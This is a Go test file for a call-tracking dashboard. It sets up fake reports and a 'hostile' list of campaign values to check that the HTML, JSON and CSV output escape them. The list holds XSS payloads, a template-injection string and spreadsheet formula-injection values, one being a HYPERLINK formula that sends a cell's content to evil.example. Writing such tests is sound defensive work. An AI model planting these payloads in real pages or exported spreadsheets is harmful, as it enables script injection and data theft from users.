package dashboard_test

import (
	"bytes"
	"context"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/qooqie/qooqie/numberpool"
	"github.com/qooqie/qooqie/retention"
	"github.com/qooqie/qooqie/tracking"
	"github.com/qooqie/qooqie/tracking/dashboard"
	"github.com/stretchr/testify/require"
)

// password is the password of these tests; no response and no log may have it.
const password = "KWIKSTAART-geheim-4711"

// The paths of the dashboard, and those of them that show data.
var (
	allPaths  = []string{"/", "/calls.json", "/calls.csv", "/dashboard.css"}
	dataPaths = []string{"/", "/calls.json", "/calls.csv"}
)

// fakeSource has one report for everybody.
type fakeSource struct {
	report tracking.Report
	err    error

	mu    sync.Mutex
	asked []string // the customers that were asked for
}

// Report returns the report and the error.
func (s *fakeSource) Report(_ context.Context, customer string) (tracking.Report, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.asked = append(s.asked, customer)
	return s.report, s.err
}

// board is a dashboard and its log.
type board struct {
	http.Handler
	t   testing.TB
	log *bytes.Buffer
}

// newBoard returns the dashboard of a source.
func newBoard(t testing.TB, source dashboard.Source) *board {
	t.Helper()
	log := new(bytes.Buffer)
	h, err := dashboard.New(dashboard.Config{
		Source:   source,
		Password: password,
		Logger:   slog.New(slog.NewJSONHandler(log, nil)),
	})
	require.NoError(t, err)
	return &board{Handler: h, t: t, log: log}
}

// showing returns the dashboard of a report.
func showing(t testing.TB, report tracking.Report) *board {
	t.Helper()
	return newBoard(t, &fakeSource{report: report})
}

// do asks for a path, with the password unless options change that.
func (b *board) do(method, path string, options ...func(*http.Request)) *httptest.ResponseRecorder {
	b.t.Helper()
	r := httptest.NewRequestWithContext(b.t.Context(), method, path, http.NoBody)
	r.SetBasicAuth("admin", password)
	for _, o := range options {
		o(r)
	}
	rec := httptest.NewRecorder()
	b.ServeHTTP(rec, r)
	return rec
}

// get returns the text of a path that is there.
func (b *board) get(path string) string {
	b.t.Helper()
	rec := b.do(http.MethodGet, path)
	require.Equal(b.t, http.StatusOK, rec.Code)
	return rec.Body.String()
}

// credentials gives another user and password.
func credentials(user, word string) func(*http.Request) {
	return func(r *http.Request) { r.SetBasicAuth(user, word) }
}

// noCredentials gives none.
func noCredentials(r *http.Request) { r.Header.Del("Authorization") }

// at is when the reports of these tests are made: 13:00 in Amsterdam.
var at = time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)

// amsterdam is the zone of these tests.
func amsterdam(t testing.TB) *time.Location {
	t.Helper()
	zone, err := time.LoadLocation("Europe/Amsterdam")
	require.NoError(t, err)
	return zone
}

// number returns a tracking number.
func number(t testing.TB, text string) numberpool.Number {
	t.Helper()
	n, err := numberpool.ParseNumber(text)
	require.NoError(t, err)
	return n
}

// emptyReport is the report of a customer who has just begun.
func emptyReport(t testing.TB) tracking.Report {
	t.Helper()
	return tracking.Report{Customer: "kwikstaart", At: at, Zone: amsterdam(t), State: retention.Active}
}

// spring is what the tests' visitors came by.
var spring = numberpool.Attribution{
	Source: "google", Medium: "cpc", Name: "voorjaar", Term: "fiets", Content: "banner", Channel: "Paid Search",
	ClickID: "gclid", Referrer: "www.google.com", Landing: "/diensten",
}

// session marks the session id of the tests' live lease.
var session = numberpool.SessionID([]byte("\xfb\xffS3SS10N-ID\xee\xf0\x3e\x7f"))

// fullReport is a report with something of everything.
func fullReport(t testing.TB) tracking.Report {
	t.Helper()
	rep := emptyReport(t)
	first, second, third := number(t, "+31850000001"), number(t, "+31850000002"), number(t, "+31850000003")
	rep.Pools = []tracking.PoolReport{{
		Pool: "balie", SwapTarget: "+31851234567", Live: 1,
		Leases: []numberpool.Lease{
			{Number: first, Generation: 4, Session: session, ExpiresAt: at.Add(90 * time.Second), Attribution: spring},
			{Number: second, Generation: 1, ExpiresAt: at, Attribution: numberpool.Attribution{Source: "voorganger"}},
			{Number: third},
		},
	}}
	today, yesterday := retention.Date{Year: 2026, Month: 11, Day: 24}, retention.Date{Year: 2026, Month: 11, Day: 23}
	const site = "www.kwikstaart.example"
	rep.Counters = []tracking.Counter{
		{Day: yesterday, Site: site, Kind: tracking.PageViews, Key: "/contact", Count: 7},
		{Day: yesterday, Site: site, Kind: tracking.Sessions, Key: "google / cpc / voorjaar", Count: 3},
		{Day: today, Site: site, Kind: tracking.PageViews, Key: "/", Count: 5},
		{Day: today, Site: site, Kind: tracking.PageViews, Key: "/diensten", Count: 9},
		{Day: today, Site: site, Kind: tracking.Sessions, Key: " /  / ", Count: 2},
		{Day: today, Site: site, Kind: tracking.Sessions, Key: "nieuwsbrief / email / ", Count: 4},
	}
	rep.Calls = []tracking.Call{
		{
			Carrier: "twilio", ID: "CA2", Pool: "balie", Dialled: first, Caller: "deadbeefcafe", CallerHint: "07",
			State: tracking.Finished, StartedAt: at.Add(-time.Minute), Duration: 65 * time.Second,
			Attribution: spring, Probability: 0.873, Rung: tracking.Session,
		},
		{
			Carrier: "twilio", ID: "CA1", Dialled: number(t, "+31851234567"),
			State: tracking.Missed, StartedAt: at.Add(-24 * time.Hour),
		},
	}
	return rep
}

// hostile are campaign values that somebody could put into a link.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`' style='background:red`,
	`{{.Password}}`,
	`javascript:alert(1)`,
	`=HYPERLINK("https://evil.example?"&A1,"klik")`,
	"+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1",
	`x;=1+1`, `x,"=1+1`, "x\r\n=1+1", "x\t@SUM(A1)", `x; =1+1`,
	`a "quoted", value`, "two\nlines", "</td></table>", "\u2028", "caf\u00e9 \u20ac \U0001F6B2", "\xff\xfe",
	strings.Repeat("x", 500),
}

// hostileReport has a call, a lease and counters for each hostile value.
func hostileReport(t testing.TB) tracking.Report {
	t.Helper()
	rep := fullReport(t)
	rep.Calls, rep.Counters = nil, nil
	for _, h := range hostile {
		a := numberpool.Attribution{
			Source: h, Medium: h, Name: h, Term: h, Content: h, Channel: h, Referrer: h, Landing: h,
		}
		rep.Pools[0].Leases[0].Attribution = a
		rep.Pools = append(rep.Pools, tracking.PoolReport{Pool: h, SwapTarget: h, Leases: rep.Pools[0].Leases})
		rep.Calls = append(rep.Calls, tracking.Call{
			Carrier: h, ID: h, Pool: h, Dialled: number(t, "+31850000001"), CallerHint: h,
			StartedAt: at, Attribution: a, Probability: 0.5, Rung: tracking.Session, State: tracking.Ringing,
		})
		rep.Counters = append(rep.Counters,
			tracking.Counter{Site: h, Kind: tracking.Sessions, Key: h + " / " + h + " / " + h, Count: 1},
			tracking.Counter{Site: h, Kind: tracking.PageViews, Key: h, Count: 1})
	}
	rep.Customer = hostile[0]
	return rep
}
